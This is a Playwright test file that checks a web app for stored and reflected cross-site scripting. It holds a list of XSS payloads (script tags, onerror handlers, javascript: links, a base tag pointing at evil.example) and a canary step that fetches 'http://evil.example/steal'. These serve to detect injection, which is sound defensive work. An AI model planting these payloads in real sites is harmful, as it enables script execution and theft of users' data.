// XSS (issue 3): a corpus of payloads is stored through the API in every text field there is, then
// every view of the web app is rendered in real Chromium. The test fails if any script runs
// (window.__xss is ever assigned, in any frame), a dialog opens, a request leaves for another host
// (evil.example or anywhere else), or a payload turns into markup instead of showing as text.
//
// The web app renders the signed-in user's name, workspace and space names, status names, item
// titles, markdown descriptions and comments (board, list, item panel and page). Label and field
// names and custom field values are stored too (and checked to round-trip verbatim) so that each
// later view only has to be added to VIEWS below; until then PENDING_VIEWS reports them as to-do.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { launchBrowser, startServer, uniqueEmail } from './helpers.mjs';

const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<svg onload="window.__xss=1">',
  ' javascript:window.__xss=1',
  '<base href="//evil.example/">',
  '<iframe srcdoc="<script>parent.__xss=1</script>">',
  '[x](javascript:window.__xss=1)',
  '![x](x" onerror="window.__xss=1)',
  '"><script>window.__xss=1</script>',
  "{{constructor.constructor('window.__xss=1')()}}",
];
const PASSWORD = 'correct horse battery';
// Names and titles are trimmed by the API (zod .trim()); markdown bodies are stored as sent.
const shown = (p) => p.trim();

/**
 * Views the web app has, each with the path to open, what to wait for, and the stored texts that
 * must appear on it literally. `each: 'user'` views are opened once per payload set as the user's
 * name; `each: 'item'` views once per seeded space/item/comment holding that payload.
 */
const VIEWS = [
  {
    name: 'home: header (user name) and workspace list',
    each: 'user',
    path: () => '/',
    ready: (page, seed) => waitForWorkspaces(page, seed.workspaceNames.length),
    texts: async (page) => ({ user: await page.locator('header strong').textContent(), workspaces: await workspaceNames(page) }),
  },
  {
    // Every unknown path is the SPA (the future router); an invite link is one users really follow.
    name: 'deep link served by the SPA fallback (/invite/:token)',
    each: 'user',
    path: (seed) => `/invite/${seed.inviteToken}`,
    ready: (page, seed) => waitForWorkspaces(page, seed.workspaceNames.length),
    texts: async (page) => ({ user: await page.locator('header strong').textContent(), workspaces: await workspaceNames(page) }),
  },
  {
    name: 'space board with the item side panel: space name, sidebar space names, status names, card titles, item title, description, comments',
    each: 'item',
    path: (seed, e) => `/w/${seed.workspaceId}/s/${e.space.id}?view=board&item=${e.item.key}`,
    ready: async (page) => {
      await page.locator('.card-slot').first().waitFor();
      await page.getByRole('list', { name: 'Comments' }).locator('li').first().waitFor();
      await page.getByRole('list', { name: 'Streams' }).locator('li').nth(PAYLOADS.length - 1).waitFor();
    },
    texts: async (page) => ({
      space: await page.locator('.space-head .space-name').textContent(),
      sidebar: (await page.getByRole('list', { name: 'Streams' }).locator('a').allTextContents()).map((t) => t.replace(/^X\d+ /, '')).sort(),
      statuses: await page.locator('.column .status-name').allTextContents(),
      cards: await page.locator('.card-title').allTextContents(),
      title: await page.locator('.panel .title-input').inputValue(),
      ...(await renderedMarkdown(page)),
    }),
    expected: (e) => ({ space: shown(e.p), sidebar: PAYLOADS.map(shown).sort(), statuses: DEFAULT_STATUSES, cards: [shown(e.p)], title: shown(e.p), ...expectedMarkdown(e.p) }),
  },
  {
    name: 'space list view: item titles and status group names',
    each: 'item',
    path: (seed, e) => `/w/${seed.workspaceId}/s/${e.space.id}?view=list`,
    ready: (page) => page.locator('.list-row').first().waitFor(),
    texts: async (page) => ({ groups: await page.locator('.list-group .status-name').allTextContents(), rows: await page.locator('.list-row .row-title').allTextContents() }),
    expected: (e) => ({ groups: ['Todo'], rows: [shown(e.p)] }),
  },
  {
    name: 'item page (/items/:key): title, description (view, editor and preview), comments',
    each: 'item',
    path: (_seed, e) => `/items/${e.item.key}`,
    ready: (page) => page.getByRole('list', { name: 'Comments' }).locator('li').first().waitFor(),
    texts: async (page) => {
      const got = { title: await page.locator('.title-input').inputValue(), ...(await renderedMarkdown(page)) };
      await page.getByRole('button', { name: 'Edit description' }).click();
      got.editor = await page.getByLabel('Description (markdown)').inputValue();
      await page.getByRole('tab', { name: 'Preview' }).click();
      got.preview = await markdownText(page.getByRole('tabpanel'));
      return got;
    },
    expected: (e) => ({ title: shown(e.p), ...expectedMarkdown(e.p), editor: `${e.p}\n\n${e.p}`, preview: expectedMarkdown(e.p).description }),
  },
];

const DEFAULT_STATUSES = ['Backlog', 'Todo', 'In Progress', 'In Review', 'Done', 'Canceled'];

// Markdown is rendered, so the link payload ([x](javascript:…)) shows as its text "x" (the href is
// stripped); raw HTML is escaped and shows verbatim, as does the malformed image. Either way nothing
// may run (assertNothingRan).
const usesMarkdownSyntax = (p) => p.startsWith('[x](');
// Whitespace between rendered blocks varies with the markdown; the characters must not.
const norm = (t) => t.replace(/\s+/g, '');
async function markdownText(locator) {
  return norm((await locator.locator('.markdown').first().textContent()) ?? '');
}
async function renderedMarkdown(page) {
  return { description: await markdownText(page.locator('.description')), comment: await markdownText(page.getByRole('list', { name: 'Comments' })) };
}
function expectedMarkdown(p) {
  if (usesMarkdownSyntax(p)) return { description: norm('x x'), comment: 'x' };
  return { description: norm(`${p} ${p}`), comment: norm(p) };
}

/** Stored through the API below but not rendered by the web app yet. Move each to VIEWS. */
const PENDING_VIEWS = [
  'item detail: label chips, custom field values (text; select and multi-select option names)',
  'workspace settings: label names, field names and option names',
  'members and people pickers: user names (already covered in the header)',
  'activity feed and notifications: titles and comment bodies as they appear in events',
];

let server;
let browser;
let seed;

before(async () => {
  // Rate limits are not what this file tests; it signs up more people than a person would.
  server = await startServer({ WEFT_AUTH_RATE_MAX: '1000' });
  browser = await launchBrowser();
  seed = await seedPayloads(server.url);
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

/** A JSON call against the running server, with a session cookie or a bearer token. */
async function api(method, path, { body, token, cookie } = {}) {
  const headers = { accept: 'application/json' };
  if (body !== undefined) headers['content-type'] = 'application/json';
  if (token) headers.authorization = `Bearer ${token}`;
  if (cookie) headers.cookie = cookie;
  const res = await fetch(`${server.url}/api/v1${path}`, { method, headers, body: body === undefined ? undefined : JSON.stringify(body) });
  const text = await res.text();
  return { status: res.status, json: text ? JSON.parse(text) : null, headers: res.headers };
}

async function must(method, path, opts, want = 201) {
  const res = await api(method, path, opts);
  assert.equal(res.status, want, `${method} ${path}: ${JSON.stringify(res.json)}`);
  return res.json;
}

/** One user, one workspace per payload, and every payload in every stored text field of the first one. */
async function seedPayloads(url) {
  const email = uniqueEmail('victim');
  const signup = await fetch(`${url}/api/v1/auth/signup`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email, name: 'Victim', password: PASSWORD }) });
  assert.equal(signup.status, 201);
  const cookie = signup.headers.get('set-cookie').split(';')[0];
  const { token } = await must('POST', '/tokens', { cookie, body: { name: 'seed' } });
  const workspaces = [];
  for (const p of PAYLOADS) workspaces.push(await must('POST', '/workspaces', { token, body: { name: p } }));
  const W = `/workspaces/${workspaces[0].id}`;
  const text = await must('POST', `${W}/fields`, { token, body: { name: PAYLOADS[0], type: 'text' } });
  const select = await must('POST', `${W}/fields`, { token, body: { name: PAYLOADS[1], type: 'select', options: PAYLOADS.map((name) => ({ name })) } });
  const labels = [];
  for (const p of PAYLOADS) labels.push(await must('POST', `${W}/labels`, { token, body: { name: p } }));
  const items = [];
  for (const [i, p] of PAYLOADS.entries()) {
    const space = await must('POST', `${W}/spaces`, { token, body: { key: `X${i}`, name: p, description: p } });
    const item = await must('POST', `/spaces/${space.id}/items`, {
      token,
      body: { title: p, description: `${p}\n\n${p}`, labelIds: [labels[i].id], fields: { [text.id]: p, [select.id]: select.options[i].id } },
    });
    const comment = await must('POST', `/items/${item.id}/comments`, { token, body: { body: p } });
    items.push({ p, space, item, comment });
  }
  const invite = await must('POST', `${W}/invites`, { token, body: { role: 'member' } });
  return { email, token, workspaceId: workspaces[0].id, workspaceNames: PAYLOADS.map(shown), fields: { text, select }, labels, items, inviteToken: invite.token };
}

async function waitForWorkspaces(page, count) {
  await page.getByRole('list', { name: 'Workspaces' }).locator('li').nth(count - 1).waitFor();
}

async function workspaceNames(page) {
  return (await page.getByRole('list', { name: 'Workspaces' }).locator('li').allTextContents()).sort();
}

/**
 * A browser context whose every frame traps writes to window.__xss, and which records dialogs,
 * page errors and any request that is not to our server (those are aborted: nothing leaves).
 */
async function watchedContext() {
  // CSP is bypassed on purpose: these tests prove the rendering itself never turns stored text into
  // markup or script. The Content-Security-Policy header is a second line of defence, checked by the
  // header tests in apps/server; with it on, a real injection would simply be blocked and unseen here.
  const context = await browser.newContext({ bypassCSP: true });
  const seen = { dialogs: [], foreign: [], evil: [], errors: [] };
  await context.addInitScript(() => {
    let hits = 0;
    Object.defineProperty(window, '__xss', {
      configurable: false,
      get: () => hits,
      set: () => {
        hits += 1;
      },
    });
  });
  await context.route(
    (u) => !u.href.startsWith(`${server.url}/`),
    (route) => {
      seen.foreign.push(route.request().url());
      return route.abort();
    },
  );
  const watchPage = (page) => {
    page.setDefaultTimeout(10_000);
    page.on('dialog', (d) => {
      seen.dialogs.push(`${d.type()}: ${d.message()}`);
      d.dismiss().catch(() => {});
    });
    page.on('request', (r) => {
      if (/(^|\.)evil\.example$/i.test(new URL(r.url()).hostname)) seen.evil.push(r.url());
    });
    page.on('pageerror', (e) => seen.errors.push(String(e)));
  };
  context.on('page', watchPage);
  return { context, seen };
}

/** Fails with everything suspicious that happened on the page so far. */
async function assertNothingRan(page, seen, where) {
  assert.deepEqual(await evidence(page, seen, where), {
    where,
    xss: 0,
    injected: [],
    handlers: [],
    jsLinks: [],
    bases: 0,
    baseURI: new URL(page.url()).href,
    dialogs: [],
    evil: [],
    foreign: [],
    errors: [],
  });
}

/** What the page shows of script execution, injected markup and outbound requests. */
async function evidence(page, seen, where) {
  await page.waitForLoadState('load');
  // Let queued tasks run (an image error event, an onload handler) before looking: no fixed sleep.
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0))));
  const dom = await page.evaluate(() => {
    const body = document.body ?? document.documentElement;
    // The SPA's own bundle is the one script allowed: it is served from /assets/ by our server.
    const own = (e) => e.tagName === 'SCRIPT' && /^\/assets\//.test(e.getAttribute('src') ?? '');
    return {
      xss: window.__xss,
      injected: [...body.querySelectorAll('script, iframe, frame, img, svg, base, object, embed, link, style, meta')].filter((e) => !own(e)).map((e) => e.outerHTML.slice(0, 80)),
      handlers: [...body.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName} ${a.name}`)),
      jsLinks: [...document.querySelectorAll('a[href], area[href], form[action]')].map((e) => e.getAttribute('href') ?? e.getAttribute('action')).filter((h) => /^\s*javascript:/i.test(h ?? '')),
      bases: document.querySelectorAll('base').length,
      baseURI: document.baseURI,
    };
  });
  return { where, ...dom, dialogs: [...seen.dialogs], evil: [...seen.evil], foreign: [...seen.foreign], errors: [...seen.errors] };
}

async function logIn(page, email) {
  await page.goto(server.url);
  await page.getByRole('button', { name: /Log in/ }).click();
  await page.getByLabel('Email').fill(email);
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Log in', exact: true }).click();
  await page.getByText('Signed in as').waitFor();
}

describe('XSS: stored payloads', () => {
  test('canary: the detectors do notice a script, a handler, a dialog and a request to evil.example', { timeout: 60_000 }, async () => {
    const { context, seen } = await watchedContext();
    const page = await context.newPage();
    try {
      await page.goto(server.url);
      await page.getByRole('heading', { name: 'Sign up' }).waitFor();
      const dialog = page.waitForEvent('dialog');
      await page.evaluate(() => {
        document.getElementById('root').insertAdjacentHTML('beforeend', '<img src=x onerror="window.__xss=1"><a href=" javascript:void 0">x</a>');
        setTimeout(() => alert('canary'), 0);
        fetch('http://evil.example/steal').catch(() => {});
      });
      await page.waitForFunction(() => window.__xss > 0);
      await dialog;
      const got = await evidence(page, seen, 'canary');
      assert.ok(got.xss >= 1, 'the __xss trap did not fire');
      assert.equal(got.injected.length, 1);
      assert.deepEqual(got.handlers, ['IMG onerror']);
      assert.deepEqual(got.jsLinks, [' javascript:void 0']);
      assert.deepEqual(got.dialogs, ['alert: canary']);
      assert.deepEqual(got.evil, ['http://evil.example/steal']);
      assert.deepEqual(got.foreign, ['http://evil.example/steal']);
    } finally {
      await context.close();
    }
  });

  test('every payload round-trips through the API verbatim, and a javascript: URL field value is refused', { timeout: 60_000 }, async () => {
    const { token } = seed;
    const ws = await must('GET', '/workspaces', { token }, 200);
    assert.deepEqual(ws.data.map((w) => w.name).sort(), [...seed.workspaceNames].sort());
    for (const { p, space, item, comment } of seed.items) {
      const got = await must('GET', `/items/${item.id}`, { token }, 200);
      assert.equal(got.title, shown(p));
      assert.equal(got.description, `${p}\n\n${p}`);
      assert.equal(got.fields[seed.fields.text.id], p);
      assert.equal((await must('GET', `/spaces/${space.id}`, { token }, 200)).name, shown(p));
      assert.equal((await must('GET', `/items/${item.id}/comments`, { token }, 200)).data[0].body, shown(comment.body));
    }
    assert.deepEqual(seed.labels.map((l) => l.name), PAYLOADS.map(shown));
    assert.deepEqual(seed.fields.select.options.map((o) => o.name), PAYLOADS.map(shown));
    // Links are where `javascript:` bites: an http(s)-only URL field refuses it however it is dressed.
    const W = `/workspaces/${ws.data[0].id}`;
    const url = await must('POST', `${W}/fields`, { token, body: { name: 'Link', type: 'url' } });
    const spaceId = seed.items[0].space.id;
    for (const bad of [' javascript:window.__xss=1', 'JaVaScRiPt:window.__xss=1', '\tjavascript:window.__xss=1', 'data:text/html,<script>window.__xss=1</script>', 'vbscript:msgbox(1)']) {
      const res = await api('POST', `/spaces/${spaceId}/items`, { token, body: { title: 'link', fields: { [url.id]: bad } } });
      assert.equal(res.status, 400, `${JSON.stringify(bad)} accepted as a URL`);
      assert.equal(res.json.code, 'VALIDATION_FAILED');
    }
  });

  for (const view of VIEWS.filter((v) => v.each === 'user')) {
    test(`${view.name}: every payload as the user's name and as workspace names shows as text, runs nothing`, { timeout: 120_000 }, async (t) => {
      const { context, seen } = await watchedContext();
      const page = await context.newPage();
      try {
        await logIn(page, seed.email);
        for (const p of PAYLOADS) {
          await must('PATCH', '/me', { token: seed.token, body: { name: p } }, 200);
          await page.goto(`${server.url}${view.path(seed)}`);
          await view.ready(page, seed);
          const texts = await view.texts(page);
          assert.deepEqual(texts, { user: shown(p), workspaces: [...seed.workspaceNames].sort() }, `payload ${JSON.stringify(p)} not shown literally`);
          await assertNothingRan(page, seen, `${view.name} with user name ${JSON.stringify(p)}`);
        }
      } catch (e) {
        t.diagnostic(`server output:\n${server.output()}`);
        throw e;
      } finally {
        await context.close();
      }
    });
  }

  for (const view of VIEWS.filter((v) => v.each === 'item')) {
    test(`${view.name}: every payload shows as text, runs nothing`, { timeout: 180_000 }, async (t) => {
      const { context, seen } = await watchedContext();
      const page = await context.newPage();
      try {
        await logIn(page, seed.email);
        for (const e of seed.items) {
          await page.goto(`${server.url}${view.path(seed, e)}`);
          await view.ready(page, e);
          assert.deepEqual(await view.texts(page), view.expected(e), `payload ${JSON.stringify(e.p)} not shown as text`);
          await assertNothingRan(page, seen, `${view.name} with ${JSON.stringify(e.p)}`);
        }
      } catch (err) {
        t.diagnostic(`server output:\n${server.output()}`);
        throw err;
      } finally {
        await context.close();
      }
    });
  }

  for (const pending of PENDING_VIEWS) {
    test(`not rendered by the web app yet: ${pending}`, { todo: 'payloads are stored; add the view to VIEWS when it lands' }, () => {});
  }
});

describe('XSS: payloads typed into the forms', () => {
  test('signing up with a payload as the name and creating a payload-named workspace shows text, runs nothing, also after a reload', { timeout: 180_000 }, async () => {
    // Independent people, so they run side by side (sign-up hashes a password: the slow part).
    const typeIn = async (p) => {
      const { context, seen } = await watchedContext();
      const page = await context.newPage();
      try {
        await page.goto(server.url);
        await page.getByLabel('Email').fill(uniqueEmail('typed'));
        await page.getByLabel('Name').fill(p);
        await page.getByLabel('Password').fill(PASSWORD);
        await page.getByRole('button', { name: 'Sign up' }).click();
        await page.getByText('Signed in as').waitFor();
        await page.getByLabel('Workspace name').fill(p);
        await page.getByRole('button', { name: 'Create workspace' }).click();
        await waitForWorkspaces(page, 1);
        for (const when of ['after typing', 'after a reload']) {
          if (when === 'after a reload') {
            await page.reload();
            await waitForWorkspaces(page, 1);
          }
          assert.equal(await page.locator('header strong').textContent(), shown(p));
          assert.deepEqual(await workspaceNames(page), [shown(p)]);
          await assertNothingRan(page, seen, `typed ${JSON.stringify(p)} ${when}`);
        }
        // A refused input (too long) comes back as a problem shown in an alert: still only text.
        await page.getByLabel('Workspace name').fill(p.repeat(Math.ceil(201 / p.length)));
        await page.getByRole('button', { name: 'Create workspace' }).click();
        await page.getByRole('alert').waitFor();
        await assertNothingRan(page, seen, `over-long ${JSON.stringify(p)}`);
        await page.getByRole('button', { name: 'Log out' }).click();
        await page.getByRole('heading', { name: 'Sign up' }).waitFor();
      } finally {
        await context.close();
      }
    };
    for (let i = 0; i < PAYLOADS.length; i += 5) await Promise.all(PAYLOADS.slice(i, i + 5).map(typeIn));
  });
});

describe('XSS: reflected input', () => {
  test('a payload in the URL is never answered as HTML by the API, and the SPA fallback runs nothing', { timeout: 60_000 }, async () => {
    const { context, seen } = await watchedContext();
    const page = await context.newPage();
    try {
      // Signed in, so the API gets past authentication and validates (and could echo) the input.
      await logIn(page, seed.email);
      for (const p of PAYLOADS) {
        const enc = encodeURIComponent(p);
        for (const path of [`/api/v1/${enc}`, `/api/v1/items/${enc}`, `/api/v1/workspaces/${seed.workspaceId}/spaces?cursor=${enc}`, `/api/v1/workspaces/${seed.workspaceId}/items?q=${enc}`]) {
          const res = await page.goto(`${server.url}${path}`);
          assert.match(res.headers()['content-type'] ?? '', /^application\/(problem\+)?json/, `${path} answered ${res.headers()['content-type']}`);
          assert.ok(res.status() < 500, `${path} answered ${res.status()}`);
          await assertNothingRan(page, seen, `GET ${path}`);
        }
        await page.goto(`${server.url}/${enc}?q=${enc}#${enc}`);
        await waitForWorkspaces(page, seed.workspaceNames.length);
        await assertNothingRan(page, seen, `SPA at /${p}`);
      }
    } finally {
      await context.close();
    }
  });
});
